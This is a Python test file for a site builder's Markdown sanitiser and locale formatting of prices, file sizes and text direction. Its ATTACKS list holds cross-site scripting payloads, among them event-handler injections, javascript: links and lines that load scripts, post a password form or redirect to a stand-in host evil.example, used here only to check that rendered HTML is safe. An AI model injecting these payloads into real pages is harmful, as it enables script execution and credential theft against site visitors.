"""Markdown is made safe; prices, sizes and directions are as the standards have them."""

from __future__ import annotations

import html5lib
import pytest

from builder.pages.text import clean_html, format_bytes, format_price, plain_text, read_locale, render_markdown, shorten

XHTML = "{http://www.w3.org/1999/xhtml}"

# Ways to smuggle script into a page; common practice, no single source.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "<a href='vbscript:x'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed'>x</p>",
    "<div onclick=alert(1)>x</div>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "`<script>alert(1)</script>`",
    "<object data=x></object><embed src=x>",
    "![picture](https://evil.example/spy.png)",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_markdown_can_do_no_harm(attack):
    """Read as a browser reads it: HTML Living Standard parsing, by html5lib."""
    made = render_markdown(f"Before\n\n{attack}\n\n*after* {attack}")
    tree = html5lib.parse(f"<!doctype html><div>{made}</div>")
    allowed = {"p", "a", "em", "code", "table", "tbody", "tr", "td", "html", "head", "body", "div", "pre"}
    for element in tree.iter():
        name = str(element.tag).removeprefix(XHTML)
        assert name in allowed, made
        assert set(element.attrib) <= {"href", "title", "rel"}, made
        assert not element.attrib.get("href", "").lower().lstrip().startswith(("javascript", "vbscript", "data")), made


def test_markdown_keeps_what_a_description_needs():
    made = render_markdown(
        "A **fine** *jug*.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[shop](https://shop.example)"
    )
    for piece in ("<strong>fine</strong>", "<em>jug</em>", "<li>one</li>", "<td>1</td>", 'href="https://shop.example"'):
        assert piece in made


def test_headings_start_below_the_pages_own_and_leave_no_gap():
    assert render_markdown("# One\n\n### Two\n\n# Three") == "<h3>One</h3>\n<h4>Two</h4>\n<h3>Three</h3>"
    assert render_markdown("#### Deep") == "<h3>Deep</h3>"
    assert "<h6>" in render_markdown("# a\n\n## b\n\n### c\n\n#### d\n\n##### e\n\n###### f")


def test_cleaning_twice_changes_nothing():
    once = render_markdown("# A\n\n### B\n\n<b>x</b> & <i>y</i> < 3")
    assert clean_html(once) == once


def test_plain_text_is_the_words():
    made = render_markdown("Holds 1&nbsp;l & *more*.\n\n- one\n- two\n\nAT&T <3")
    assert plain_text(made) == "Holds 1 l & more. one two AT&T <3"


def test_shorten_cuts_at_a_word():
    assert shorten("short", 10) == "short"
    assert shorten("one two three", 10) == "one two…"
    assert shorten("x" * 30, 10) == "x" * 9 + "…"
    assert all(len(shorten("word " * 60, limit)) <= limit for limit in range(5, 200))


@pytest.mark.parametrize(
    ("currency", "digits"), [("GBP", 2), ("EUR", 2), ("JPY", 0), ("KRW", 0), ("KWD", 3), ("TND", 3)]
)  # minor units: ISO 4217:2015, table A.1 (from memory)
def test_prices_have_the_currencys_minor_units(currency, digits):
    written = format_price("1248", currency, "en")
    assert "1,248" in written
    assert len(written.partition(".")[2]) == digits


@pytest.mark.parametrize(
    ("language", "written"),
    [
        ("en", "£1,248.50"),
        ("en-GB", "£1,248.50"),
        ("de", "1.248,50\u00a0£"),
        ("xx", "£1,248.50"),
        ("de-AT-1996", "£\u00a01.248,50"),
    ],
)  # Unicode CLDR 42 and later, currency patterns (from memory)
def test_prices_are_written_as_the_language_does(language, written):
    assert format_price("1248.50", "GBP", language) == written


def test_a_price_without_currency_or_number_stays():
    assert format_price("48.00", None, "en") == "48.00"
    assert format_price("on request", "EUR", "en") == "on request"
    assert format_price("NaN", "EUR", "en") == "NaN"


@pytest.mark.parametrize(
    ("size", "written"),
    [(0, "0.1 kB"), (999, "1 kB"), (1000, "1 kB"), (48_400, "48 kB"), (999_499, "999 kB"), (999_500, "1 MB"),
     (2_449_000, "2.4 MB"), (12_500_000, "12 MB")],
)  # prefixes of powers of ten: IEC 80000-13:2008  # fmt: skip
def test_sizes(size, written):
    assert format_bytes(size, "en") == written.replace(" ", "\u00a0")


def test_sizes_have_the_languages_decimal_mark():
    assert format_bytes(2_449_000, "de") == "2,4\u00a0MB"


@pytest.mark.parametrize("language", ["ar", "he", "fa", "ur", "ar-EG"])  # Unicode CLDR, characterOrder
def test_languages_written_from_the_right(language):
    assert read_locale(language).text_direction == "rtl"


@pytest.mark.parametrize("language", ["en", "de", "fr", "ja", "pt-BR", "zh-Hans", "xx", "x-y-z"])
def test_languages_written_from_the_left(language):
    assert read_locale(language).text_direction == "ltr"
